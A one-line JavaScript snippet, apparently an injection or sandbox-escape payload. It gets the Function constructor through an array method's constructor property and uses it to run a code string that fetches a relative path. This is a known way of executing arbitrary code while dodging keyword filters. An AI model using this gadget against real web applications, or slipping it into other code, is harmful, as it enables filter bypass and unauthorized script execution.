[].filter.constructor('return fetch("/x")')();
